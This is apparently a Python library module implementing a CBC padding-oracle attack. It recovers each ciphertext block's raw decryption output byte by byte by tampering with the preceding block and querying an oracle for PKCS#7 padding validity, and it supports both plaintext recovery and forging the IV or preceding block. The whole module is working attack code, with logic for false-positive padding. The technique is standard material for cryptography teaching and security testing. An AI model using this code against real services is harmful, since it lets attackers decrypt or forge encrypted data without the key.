"""
Recover the intermediate state D_K(C) of one ciphertext block.

CBC decryption computes ``plaintext = D_K(C) XOR preceding_block``. The
attacker controls the preceding block, so by sweeping one byte of it and
asking the padding oracle whether the result ends in valid PKCS#7 padding,
each byte of D_K(C) can be deduced without the key:

1. Work from the last byte of the block to the first.
2. For offset ``o`` aim for ``padding_value = block_size - o``. Bytes right
   of ``o`` are already known, so they are set to decrypt to
   ``padding_value``.
3. Try trial values 1..255 at ``o``. The first accepted value reveals
   ``D_K(C)[o]``.

Every trial byte is expressed relative to a *reference* block. Which block
plays that role is the :class:`Framing` of the search: the real preceding
ciphertext block when recovering plaintext, or the known plaintext when
recovering the preceding block (IV). Either way the answer is
``intermediate XOR reference``.
"""

import enum
import inspect
import logging

log = logging.getLogger(__name__)


class Framing(enum.Enum):
    """Which buffer supplies the reference bytes of the trial block."""

    #: Reference is the real preceding ciphertext block. Bytes left of the
    #: offset under test keep their original values.
    PLAINTEXT = "plaintext"
    #: Reference is the known plaintext block. Bytes left of the offset under
    #: test are zero filler.
    PRECEDING_BLOCK = "preceding-block"

    def filler(self, reference: bytes) -> bytes:
        if self is Framing.PLAINTEXT:
            return bytes(reference)
        return bytes(len(reference))


async def query_oracle(oracle, ciphertext) -> bool:
    """Ask ``oracle`` about ``ciphertext``.

    ``oracle`` may be a plain function or a coroutine function. It always
    receives its own immutable copy of the buffer. Exceptions it raises are
    not caught here.
    """
    result = oracle(bytes(ciphertext))
    if inspect.isawaitable(result):
        result = await result
    return bool(result)


async def solve(target: bytes, reference: bytes, framing: Framing, oracle,
                prefix: bytes = b"") -> bytes:
    """Discover the intermediate state of ``target``.

    Parameters
    ----------
    target : bytes
        The ciphertext block being attacked.
    reference : bytes
        Block the trial bytes are computed against (see :class:`Framing`).
    framing : Framing
        Role of ``reference``; decides the filler left of the tested byte.
    oracle : callable
        Padding oracle, ``oracle(ciphertext) -> bool`` or a coroutine
        function with that signature.
    prefix : bytes
        Whole blocks sent in front of the trial block, unchanged.

    Returns
    -------
    bytes
        ``D_K(target)``, the raw block decryption output.
    """
    block_size = len(target)
    assert len(reference) == block_size, "Reference must be one block long"
    assert len(prefix) % block_size == 0, "Prefix must be block aligned"

    filler = framing.filler(reference)
    intermediate = bytearray(block_size)

    for offset in reversed(range(block_size)):
        padding_value = block_size - offset

        # Fresh trial buffer per offset:
        #   - bytes before offset are filler
        #   - byte at offset is the value under test
        #   - bytes after offset decrypt to padding_value
        trial = bytearray(prefix)
        trial += filler[:offset]
        trial.append(0)
        trial += bytes(intermediate[i] ^ padding_value for i in range(offset + 1, block_size))
        trial += target

        test_index = len(prefix) + offset
        found = None

        # Zero would reproduce the reference byte itself, so it is implied
        # when nothing else is accepted
        for test in range(1, 256):
            trial[test_index] = reference[offset] ^ test

            if not await query_oracle(oracle, trial):
                continue

            if offset == block_size - 1 and offset > 0:
                # The byte before may already decrypt to 0x02, making this
                # a valid 02 02 pad instead of the intended 01. Flip a bit
                # there and see whether the padding still holds.
                trial[test_index - 1] ^= 1
                still_valid = await query_oracle(oracle, trial)
                trial[test_index - 1] ^= 1

                if not still_valid:
                    log.debug("Coincidental padding at offset %d with test value %d, skipping",
                              offset, test)
                    continue

            found = test
            break

        if found is None:
            # Only the padding's own terminal byte is rejected for all 255 values
            found = 0
            log.debug("No trial value accepted at offset %d, assuming %d", offset, padding_value)

        intermediate[offset] = reference[offset] ^ found ^ padding_value
        log.debug("Offset %d: intermediate byte %02x", offset, intermediate[offset])

    return bytes(intermediate)


async def intermediate_state(target: bytes, oracle, prefix: bytes = b"") -> bytes:
    """Return D_K(target) by solving against an all-zero reference block."""
    return await solve(target, bytes(len(target)), Framing.PRECEDING_BLOCK, oracle, prefix)
